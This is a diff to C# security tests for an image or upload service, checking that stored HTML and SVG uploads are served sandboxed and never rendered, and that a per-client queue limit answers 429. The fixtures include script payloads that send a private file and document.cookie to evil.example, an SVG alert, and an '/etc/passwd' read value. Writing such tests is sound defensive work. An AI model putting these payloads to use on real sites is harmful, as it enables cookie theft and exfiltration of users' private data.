@@ -20,10 +20,18 @@ public sealed class HostileInputTests : IAsyncLifetime
         { "ephemeral.jpg", "ephemeral:/etc/passwd" },
     };
 
+    /// <summary>Stored web content that would run script on this origin if served as a page.</summary>
+    public static TheoryData<string, string> ScriptPayloads => new()
+    {
+        { "portal.html", "<html><body><script>fetch('/photos/private.dcm').then(r => r.blob()).then(b => navigator.sendBeacon('https://evil.example', b))</script></body></html>" },
+        { "avatar.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://evil.example/?c=' + document.cookie)\"><rect width=\"10\" height=\"10\"/></svg>" },
+        { "badge.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"10\" height=\"10\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(document.domain)</script></body></foreignObject></svg>" },
+    };
+
     public async Task InitializeAsync()
     {
         Directory.CreateDirectory(Path.Combine(_store, "uploads"));
-        foreach (var row in Payloads)
+        foreach (var row in Payloads.Concat(ScriptPayloads))
         {
             await File.WriteAllTextAsync(Path.Combine(_store, "uploads", (string)row[0]), (string)row[1]);
         }
@@ -52,6 +60,21 @@ public sealed class HostileInputTests : IAsyncLifetime
         Assert.False(File.Exists("/tmp/helium-pwned"));
         Assert.False(File.Exists("/tmp/helium-pwned.png"));
         Assert.Equal(HttpStatusCode.OK, health.StatusCode);
+    }
+
+    [Theory]
+    [MemberData(nameof(ScriptPayloads))]
+    public async Task Stored_pages_and_svg_are_passed_through_sandboxed_and_never_rendered(string name, string payload)
+    {
+        using var passThrough = await _server.Client.GetAsync($"/uploads/{name}");
+        using var rendered = await _server.Client.GetAsync($"/uploads/{name}?w=100");
+
+        Assert.Equal(HttpStatusCode.OK, passThrough.StatusCode);
+        Assert.Equal(payload, await passThrough.Content.ReadAsStringAsync());
+        Assert.Equal("default-src 'none'; sandbox", string.Join(",", passThrough.Headers.GetValues("Content-Security-Policy")));
+        Assert.Equal("attachment", passThrough.Content.Headers.ContentDisposition?.DispositionType);
+        Assert.Equal("nosniff", string.Join(",", passThrough.Headers.GetValues("X-Content-Type-Options")));
+        await ProblemAssert.IsProblemAsync(rendered, HttpStatusCode.UnsupportedMediaType, "unsupported-source");
     }
 }
 
@@ -235,10 +258,11 @@ public sealed class HostileSourceTests : IAsyncLifetime
         var responses = await Task.WhenAll(Enumerable.Range(0, 1000).Select(i => server.Client.GetAsync($"/hostile/normal.jpg?w={20 + (i % 500)}&quality={50 + (i / 500)}")));
 
         var statuses = responses.GroupBy(r => (int)r.StatusCode).ToDictionary(g => g.Key, g => g.Count());
-        Assert.True(statuses.Keys.All(s => s is 200 or 503), string.Join(", ", statuses.Select(kv => $"{kv.Key}: {kv.Value}")));
-        Assert.True(statuses.GetValueOrDefault(503) > 0, "the queue limit never answered 503");
+        // One client: its share of the queue (Limits:PerClientQueue) runs out before the server's does.
+        Assert.True(statuses.Keys.All(s => s is 200 or 429 or 503), string.Join(", ", statuses.Select(kv => $"{kv.Key}: {kv.Value}")));
+        Assert.True(statuses.GetValueOrDefault(429) > 0, "the per-client limit never answered 429");
         Assert.True(statuses.GetValueOrDefault(200) > 0);
-        Assert.All(responses.Where(r => r.StatusCode == HttpStatusCode.ServiceUnavailable), r => Assert.NotNull(r.Headers.RetryAfter));
+        Assert.All(responses.Where(r => r.StatusCode is HttpStatusCode.ServiceUnavailable or HttpStatusCode.TooManyRequests), r => Assert.NotNull(r.Headers.RetryAfter));
         foreach (var response in responses)
         {
             response.Dispose();
